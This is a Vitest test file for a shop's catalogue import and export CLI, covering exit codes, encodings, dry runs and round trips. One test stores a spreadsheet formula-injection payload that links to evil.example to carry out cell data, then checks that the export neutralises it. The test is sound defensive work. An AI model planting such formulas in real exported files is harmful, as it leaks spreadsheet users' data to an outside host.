import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { seedDemoShop } from '@hemma/demo-shop';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../src/db/database.ts';
import { migrateToLatest } from '../src/db/migrate.ts';
import { readCsv } from '../src/use-cases/catalog-import/csv.ts';

/**
 * `npm run catalogue:import` and `catalogue:export` as a shop owner runs them: real processes on a seeded SQLite
 * shop (the commands open the database HEMMA_DATA_DIR names; SQLite also when the suite runs on PostgreSQL — the
 * import itself is tested on both in admin-import.test.ts), their output and exit codes.
 */
const root = fileURLToPath(new URL('../../../', import.meta.url));
const dir = mkdtempSync(join(tmpdir(), 'hemma-catalogue-cli-'));

function command(name: 'catalogue-import' | 'catalogue-export', args: string[]) {
  const result = spawnSync(process.execPath, ['--import', 'tsx', `apps/api/src/cli/${name}.ts`, ...args], {
    cwd: root,
    env: { ...process.env, HEMMA_DATA_DIR: dir, DATABASE_URL: '' },
    encoding: 'utf8',
  });
  return { status: result.status, out: `${result.stdout}${result.stderr}` };
}

async function catalogueVersion(): Promise<number> {
  const handle = openDatabase({ sqlitePath: join(dir, 'hemma.sqlite') });
  try {
    const { rows } = await sql<{ version: number }>`select version from search_version where id = 1`.execute(
      handle.db,
    );
    return Number(rows[0]!.version);
  } finally {
    await handle.close();
  }
}

beforeAll(async () => {
  const handle = openDatabase({ sqlitePath: join(dir, 'hemma.sqlite') });
  await migrateToLatest(handle);
  await seedDemoShop(handle, { imagesDir: join(dir, 'images'), renderImages: false });
  await handle.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const file = (name: string, text: string) => {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
};

describe('npm run catalogue:import and catalogue:export', () => {
  it('imports a file, reports the rejected rows by line and exits 2 for them; a progress line without a terminal', () => {
    const path = file(
      'ny.csv',
      'sku,type,name,price,tax_class\nCLI-1,simple,Kommandopall,495,Taxable Goods\nCLI-2,simple,Trasig,abc,Taxable Goods\n',
    );
    const run = command('catalogue-import', [path]);
    expect(run.status).toBe(2);
    expect(run.out).toMatch(/1\/1 \(100 %\) after [\d.]+ s 1 new/);
    expect(run.out).toMatch(/1 new, 0 changed, 0 unchanged; 1 row rejected/);
    expect(run.out).toContain('line 3 (CLI-2): price: "abc" is not a number');
  });

  it('refuses a file that is not a catalogue whole, with exit code 1', () => {
    const run = command('catalogue-import', [file('fel.csv', 'namn;pris\nSoffa;100\n')]);
    expect(run.status).toBe(1);
    expect(run.out).toMatch(
      /was refused, nothing imported: The header lacks the columns sku, type, name, price/,
    );
  });

  it('reads a Windows-1252 (Latin-1) file as that and says so; refuses UTF-16 naming it', () => {
    const latin1 = join(dir, 'excel.csv');
    writeFileSync(
      latin1,
      Buffer.from(
        'sku;type;name;price;tax_class\r\nCLI-LATIN;simple;Pall Grå Åsa;495;Taxable Goods\r\n',
        'latin1',
      ),
    );
    const run = command('catalogue-import', [latin1]);
    expect(run.status, run.out).toBe(0);
    expect(run.out).toContain('Note: The file is not UTF-8: it was read as Windows-1252');
    const exported = command('catalogue-export', [join(dir, 'efter-latin1.csv')]);
    expect(exported.status).toBe(0);
    expect(readFileSync(join(dir, 'efter-latin1.csv'), 'utf8')).toContain('CLI-LATIN,,simple,Pall Grå Åsa,');
    const utf16 = join(dir, 'unicode.csv');
    writeFileSync(utf16, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('sku,type\r\n', 'utf16le')]));
    const refused = command('catalogue-import', [utf16]);
    expect(refused.status).toBe(1);
    expect(refused.out).toMatch(/was refused, nothing imported: The file is UTF-16 text/);
    // Three commands, each a process of its own.
  }, 120_000);

  it('saves nothing in a dry run', async () => {
    const version = await catalogueVersion();
    const run = command('catalogue-import', [
      file(
        'prov.json',
        '[{"sku": "CLI-PROV", "type_id": "simple", "name": "Provpall", "tax_class_id": 2, "price": 100}]',
      ),
      '--dry-run',
    ]);
    expect(run.status).toBe(0);
    expect(run.out).toMatch(/Would have made 1 new/);
    expect(await catalogueVersion()).toBe(version);
  });

  it('exports the catalogue, and importing the export changes nothing', async () => {
    const path = join(dir, 'export.csv');
    const exported = command('catalogue-export', [path]);
    expect(exported.status).toBe(0);
    expect(readFileSync(path, 'utf8')).toMatch(/^sku,parent_sku,type,name,/);
    expect(readFileSync(path, 'utf8')).toContain('CLI-1,,simple,Kommandopall');
    const version = await catalogueVersion();
    const run = command('catalogue-import', [path]);
    expect(run.status, run.out).toBe(0);
    expect(run.out).toMatch(/0 new, 0 changed, \d+ unchanged; 0 rows rejected/);
    expect(await catalogueVersion()).toBe(version);
  });

  // Three commands, each a process of its own: more than the default 30 s on a busy machine.
  it('neutralises formulas in the exported file, and importing it back restores them (issue 29, defect 6)', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
    const created = command('catalogue-import', [
      file(
        'formel.json',
        JSON.stringify([
          { sku: 'CLI-FORMEL', type_id: 'simple', name, tax_class_id: 2, price: 100, stock: { qty: -2 } },
        ]),
      ),
    ]);
    expect(created.status, created.out).toBe(0);
    const path = join(dir, 'formler.csv');
    expect(command('catalogue-export', [path]).status).toBe(0);
    const text = readFileSync(path, 'utf8');
    expect(text).toContain(`CLI-FORMEL,,simple,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klicka"")"`);
    const [header, ...records] = readCsv(text).map((r) => r.fields);
    const row = records.find((r) => r[0] === 'CLI-FORMEL')!;
    expect(row[header!.indexOf('qty')]).toBe('-2');
    const again = command('catalogue-import', [path]);
    expect(again.status, again.out).toBe(0);
    expect(again.out).toMatch(/0 new, 0 changed, \d+ unchanged; 0 rows rejected/);
    const handle = openDatabase({ sqlitePath: join(dir, 'hemma.sqlite') });
    try {
      const stored = await handle.db
        .selectFrom('products')
        .select('name')
        .where('sku', '=', 'CLI-FORMEL')
        .executeTakeFirst();
      expect(stored?.name).toBe(name);
    } finally {
      await handle.close();
    }
  }, 90_000);
});
